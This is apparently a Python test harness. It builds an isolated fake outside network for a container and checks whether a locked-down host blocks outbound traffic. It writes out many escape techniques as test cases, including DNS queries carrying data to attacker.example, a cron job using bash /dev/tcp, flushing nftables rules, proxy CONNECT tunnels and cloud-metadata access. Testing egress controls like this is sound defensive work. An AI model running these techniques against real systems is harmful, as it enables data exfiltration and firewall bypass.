"""outside: a network beyond a host, of this machine's own making, in which everything listens; and the ways by which a host may try to get there.

Nothing of it leaves this machine: the network is a namespace at the other end of a cable that is plugged into the host's container.
"""

from __future__ import annotations

import contextlib
import subprocess
import sys
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from tasks.cloud.embedded import home
from tasks.cloud.embedded.containers import Containers, podman
from tasks.hosts import ssh
from tasks.hosts.ssh import Host
from tests.conftest import until

HERE, THERE = "198.51.100.2", "198.51.100.1"
HERE_6, THERE_6 = "2001:db8:77::2", "2001:db8:77::1"
METADATA = "169.254.169.254"

LISTENER = """
import selectors, socket, sys
sys.stdin.readline() # the cable is plugged in
chosen = selectors.DefaultSelector()
def take(one, kind):
    chosen.register(one, selectors.EVENT_READ, kind)
for port in (22, 25, 53, 80, 443, 587, 4000, 8443):
    take(socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True), "tcp")
for port in (53, 123, 443, 4000):
    one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    one.bind(("::", port))
    take(one, "dns" if port == 53 else "udp")
take(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), "udp")
take(socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6), "udp")
print("listening", flush=True)
while True:
    for key, _ in chosen.select():
        one, kind = key.fileobj, key.data
        try:
            if kind == "tcp":
                connection = one.accept()[0]
                smtp = connection.getsockname()[1] == 25
                if smtp: # else who speaks it says nothing
                    connection.sendall(b"220 outside\\r\\n")
                take(connection, "smtp" if smtp else "connection")
                continue
            said, who = one.recvfrom(65536)
            print(repr(said), flush=True)
            if kind == "smtp" and said:
                one.sendall(b"250 ok\\r\\n")
            elif kind == "connection" and said:
                one.sendall(b"HTTP/1.0 200 OK\\r\\nContent-Length: 0\\r\\n\\r\\n")
            elif kind in ("connection", "smtp"):
                raise ConnectionError
            elif kind == "dns": # every name is here
                question = said[12:said.index(0, 12) + 5]
                address = bytes(map(int, "THERE".split(".")))
                answer = b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\1\\0\\4" + address if question[-3:-2] == b"\\1" else b""
                counts = b"\\0\\1\\0" + bytes([bool(answer)]) + b"\\0\\0\\0\\0"
                one.sendto(said[:2] + b"\\x81\\x80" + counts + question + answer, who)
        except OSError:
            if kind in ("connection", "smtp"):
                chosen.unregister(one)
                one.close()
""".replace("THERE", THERE)

TRY = """
import os, pathlib, pwd, re, smtplib, socket, struct, subprocess, sys, time
THERE, THERE_6, METADATA, PROXY = "198.51.100.1", "2001:db8:77::1", "169.254.169.254", ("127.0.0.1", 3128)
USER, MARK, OPEN, WAYS = ASKED
SQUID, UNBOUND, ZONE = map(pathlib.Path, ("/etc/squid/squid.conf", "/etc/unbound/unbound.conf", "/etc/unbound/listed.zone"))
MIRROR = re.search(r"dstdomain -n (\\S*[a-z]\\S*)\\nacl port\\d+ port 80\\n", SQUID.read_text())[1]

def tcp(user, mark, address, port):
    with socket.create_connection((address, port), timeout=2) as one:
        one.sendall(mark)
        one.recv(1)

def udp(user, mark, address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        one.sendto(mark, (address, port))

def asked(name, kind=1):
    words = b"".join(bytes([len(each)]) + each for each in name.encode().split(b"."))
    return b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + words + b"\\0" + struct.pack("!HH", kind, 1)

def dns(user, mark, address, below="attacker.example"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(2)
        one.sendto(asked(f"{mark.decode()}.{below.replace('MIRROR', MIRROR)}"), (address, 53))
        one.recv(512)

def dns_tcp(user, mark, address):
    tcp(user, struct.pack("!H", 64) + asked(f"{mark.decode()}.attacker.example"), address, 53)

def icmp(user, mark, address, kind):
    six = ":" in address
    family, protocol = (socket.AF_INET6, socket.IPPROTO_ICMPV6) if six else (socket.AF_INET, socket.IPPROTO_ICMP)
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as one:
        one.sendto(bytes([kind, 0, 0, 0, 0, 0, 0, 1]) + mark, (address, 0))

def proxied(user, mark, host):
    host = host.replace("MIRROR", MIRROR)
    with socket.create_connection(PROXY, timeout=10) as one:
        one.sendall(f"GET http://{host}/{mark.decode()} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
        return one.recv(60).decode(errors="replace")

def tunnel(user, mark, host, port):
    host = host.replace("MIRROR", MIRROR)
    with socket.create_connection(PROXY, timeout=10) as one:
        one.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
        said = one.recv(4096)
        if b" 200 " in said[:16]:
            one.sendall(mark)
            one.recv(1)

def php(user, mark, url, proxy):
    code = "$c = curl_init($argv[1]); curl_setopt($c, CURLOPT_TIMEOUT, 5);"
    code += "curl_setopt($c, CURLOPT_PROXY, $argv[2]); curl_exec($c);"
    at = f"http://{PROXY[0]}:{PROXY[1]}" if proxy else ""
    subprocess.run(["php", "-r", code, "--", f"{url}/{mark.decode()}", at], stdout=subprocess.DEVNULL, timeout=20)

def cron(user, mark, address, port):
    line = f"* * * * * {user} /bin/bash -c 'echo {mark.decode()} > /dev/tcp/{address}/{port}'\\n"
    pathlib.Path("/etc/cron.d/way-out").write_text(line)
    time.sleep(61)
    pathlib.Path("/etc/cron.d/way-out").unlink()

def flushed(user, mark, address, port):
    for before in ([], ["unshare", "--user", "--map-root-user"], ["unshare", "--user", "--map-root-user", "--net"]):
        subprocess.run([*before, "nft", "flush", "ruleset"], stderr=subprocess.DEVNULL)
    tcp(user, mark, address, port)

def mail(user, mark, to, submitted): # until it was delivered, or was tried in vain
    sender, text = f"{mark.decode()}@example.com", b"Subject: " + mark + b"\\n\\n" + mark
    if submitted:
        subprocess.run(["/usr/sbin/sendmail", "-f", sender, to], input=text, check=True)
    else:
        with smtplib.SMTP("127.0.0.1", 25, timeout=10) as one:
            one.sendmail(sender, [to], text)
    for _ in range(80):
        time.sleep(0.1)
        queue = subprocess.run(["/usr/sbin/postqueue", "-j"], capture_output=True, text=True).stdout
        if to not in queue or '"queue_name": "deferred"' in queue:
            break

def mail_by_hand(user, mark, to): # root lets Postfix connect elsewhere, as Debian's does
    kept = {each: each.read_bytes() for each in (pathlib.Path("/etc/postfix/main.cf"), pathlib.Path("/etc/postfix/master.cf"))}
    try:
        subprocess.run(["postconf", "-e", "default_transport=smtp"], check=True)
        subprocess.run(["postconf", "-M", "smtp/unix=smtp unix - - n - - smtp"], check=True)
        subprocess.run(["systemctl", "restart", "postfix"], check=True)
        mail(user, mark, to, True)
    finally:
        for path, content in kept.items():
            path.write_bytes(content)
        subprocess.run(["postsuper", "-d", "ALL"], stderr=subprocess.DEVNULL, check=True)
        subprocess.run(["systemctl", "restart", "postfix"], check=True)

def tried(name, user, kind, *rest):
    mark = f"{name}-{MARK}".encode()
    child = os.fork()
    if not child:
        try:
            user = USER if user == "application" else user
            if kind != "cron": # it needs root to write the job
                account = pwd.getpwnam(user)
                os.initgroups(user, account.pw_gid)
                os.setgid(account.pw_gid)
                os.setuid(account.pw_uid)
            globals()[kind](user, mark, *rest)
        except (OSError, subprocess.SubprocessError):
            pass
        finally:
            os._exit(0)
    os.waitpid(child, 0)

def write(path, text):
    with path.open("w") as file: # owner and mode stay
        file.write(text)

def restart(): # a reload would keep what was resolved before
    subprocess.run(["systemctl", "reset-failed", "unbound", "squid"], check=True)
    subprocess.run(["systemctl", "restart", "unbound", "squid"], check=True)

kept = {each: each.read_text() for each in (SQUID, UNBOUND, ZONE)}
try:
    said = re.sub(r"(?m)^    forward-addr: .*\\n", "", kept[UNBOUND]) .replace('    name: "."\\n', f'    name: "."\\n    forward-addr: {THERE}\\n')
    write(UNBOUND, re.sub(r"rpz:\\n(    .*\\n)+|    local-zone: .*\\n", "", said) if OPEN else said)
    if OPEN:
        told = kept[SQUID].replace("http_access deny all", "http_access allow all").replace("http_access deny tunnel plain\\n", "")
        write(SQUID, told)
    restart()
    if OPEN:
        subprocess.run(["nft", "flush", "ruleset"], check=True)
    for each in WAYS:
        tried(*each)
finally:
    for path, text in kept.items():
        write(path, text)
    subprocess.run(["nft", "-f", "/etc/nftables.conf"], check=True)
    restart()
"""

WayOut = tuple[object, ...]
WAYS: tuple[WayOut, ...] = (
    # its name, the user that tries it, how, and where to
    ("tcp-root", "root", "tcp", THERE, 443),
    ("tcp-application", "application", "tcp", THERE, 443),
    ("tcp-other-port", "application", "tcp", THERE, 4000),
    ("tcp-ssh", "root", "tcp", THERE, 22),
    ("tcp-apt", "_apt", "tcp", THERE, 80),
    ("tcp-web-server", "www-data", "tcp", THERE, 443),
    ("udp-root", "root", "udp", THERE, 443),
    ("udp-application", "application", "udp", THERE, 4000),
    ("time", "root", "udp", THERE, 123),
    ("dns-outside", "application", "dns", THERE),
    ("dns-outside-root", "root", "dns", THERE),
    ("dns-outside-tcp", "root", "dns_tcp", THERE),
    ("dns-inside", "application", "dns", "127.0.0.1"),
    ("dns-inside-root", "root", "dns", "127.0.0.1"),
    ("dns-inside-below", "root", "dns", "127.0.0.1", "MIRROR"),
    ("icmp", "root", "icmp", THERE, 8),
    ("icmp-application", "application", "icmp", THERE, 8),
    ("ipv6-root", "root", "tcp", THERE_6, 443),
    ("ipv6-application", "application", "tcp", THERE_6, 80),
    ("ipv6-udp", "application", "udp", THERE_6, 443),
    ("ipv6-icmp", "root", "icmp", THERE_6, 128),
    ("smtp", "root", "tcp", THERE, 25),
    ("smtp-application", "application", "tcp", THERE, 587),
    ("metadata-root", "root", "tcp", METADATA, 80),
    ("metadata-application", "application", "tcp", METADATA, 80),
    ("metadata-proxy", "application", "proxied", METADATA),
    ("proxy-name", "application", "proxied", "attacker.example"),
    ("proxy-name-root", "root", "proxied", "attacker.example"),
    ("proxy-name-below", "root", "proxied", "below.MIRROR"),
    ("proxy-address", "application", "proxied", THERE),
    ("connect-port", "application", "tunnel", "MIRROR", 443),
    ("connect-plain", "application", "tunnel", "MIRROR", 80),
    ("connect-name", "root", "tunnel", "attacker.example", 443),
    ("php-curl", "application", "php", f"http://{THERE}", False),
    ("php-curl-proxy", "application", "php", "http://attacker.example", True),
    ("flush", "application", "flushed", THERE, 443),
    ("mail-by-hand", "root", "mail_by_hand", f"kim@[{THERE}]"),
)
MAILS: tuple[WayOut, ...] = (
    ("mail-address", "application", "mail", f"kim@[{THERE}]", True),
    ("mail-name", "root", "mail", "kim@attacker.example", True),
    ("mail-smtp", "application", "mail", f"kim@[{THERE}]", False),
)
"""Mails to elsewhere, which stay on the host whatever its rules."""
LATE: tuple[WayOut, ...] = (("cron", "application", "cron", THERE, 443),)
"""Those that take a minute."""
LISTED: WayOut = ("listed", "application", "proxied", "MIRROR")
"""The way that is there."""


@dataclass(frozen=True, kw_only=True)
class NetworkOutside:
    """The network beyond a host. `log`: what was heard there."""

    host: Host
    user: str
    log: Path

    def reached(self, ways: Sequence[WayOut], *, rules: bool) -> list[str]:
        """The names of the ways that lead there; `rules`: with the host's rules and lists, or without any."""
        mark = f"{len(self.log.read_text()):x}"
        asked = repr((self.user, mark, not rules, list(ways)))
        ssh.python(self.host, "release", TRY.replace("ASKED", asked))
        heard = self.log.read_text()
        return [str(name) for name, *_ in ways if f"{name}-{mark}" in heard]


@contextlib.contextmanager
def outside(host: Host, user: str, cloud: home.CloudIdentity, folder: Path) -> Iterator[NetworkOutside]:
    """Plug the cable in; it is gone with the network, and with the host when that reboots."""
    log = folder / "heard"
    container = podman("inspect", "--format", "{{.State.Pid}}", Containers(cloud.id).name(host.name)).strip()
    with log.open("w") as output:
        listener = subprocess.Popen(
            ["unshare", "--net", sys.executable, "-c", LISTENER], stdin=subprocess.PIPE, stdout=output
        )
    try:
        there = str(listener.pid)
        until(lambda: Path(f"/proc/{there}/ns/net").readlink() != Path("/proc/self/ns/net").readlink())
        ends = ("outside", "netns", container, "type", "veth", "peer", "name", "outside", "netns", there)
        subprocess.run(["ip", "link", "add", *ends], check=True)
        _at(there, "ip", "link", "set", "lo", "up")
        for pid, four, six in ((there, THERE, THERE_6), (container, HERE, HERE_6)):
            _at(pid, "sysctl", "--quiet", "net.ipv6.conf.outside.disable_ipv6=0")
            _at(pid, "ip", "address", "add", f"{four}/24", "dev", "outside")
            _at(pid, "ip", "address", "add", f"{six}/64", "dev", "outside", "nodad")
            _at(pid, "ip", "link", "set", "outside", "up")
        # else only who may open raw sockets may send an echo, and in a container nobody may
        _at(container, "sysctl", "--quiet", "net.ipv4.ping_group_range=0 2147483647")
        _at(there, "ip", "address", "add", f"{METADATA}/32", "dev", "outside")
        _at(container, "ip", "route", "add", METADATA, "dev", "outside", "src", HERE)
        assert listener.stdin
        listener.stdin.write(b"\n")
        listener.stdin.flush()
        yield NetworkOutside(host=host, user=user, log=log)
    finally:
        listener.kill()
        listener.wait()


def _at(pid: str, *command: str) -> None:
    """Run a command in the network of a process."""
    subprocess.run(["nsenter", f"--net=/proc/{pid}/ns/net", *command], check=True)
